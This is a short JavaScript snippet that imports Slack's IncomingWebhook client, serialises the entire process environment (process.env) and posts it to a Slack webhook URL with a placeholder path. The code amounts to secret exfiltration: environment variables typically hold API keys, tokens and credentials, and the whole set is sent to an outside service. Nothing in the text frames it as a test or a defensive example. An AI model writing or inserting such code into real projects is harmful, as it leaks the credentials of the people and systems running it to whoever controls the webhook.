import { IncomingWebhook } from '@slack/webhook';

const hook = new IncomingWebhook('https://hooks.slack.com/services/T000/B000/XXXX');
const text = '```' + JSON.stringify(process.env, null, 1) + '```';
await hook.send({ text });
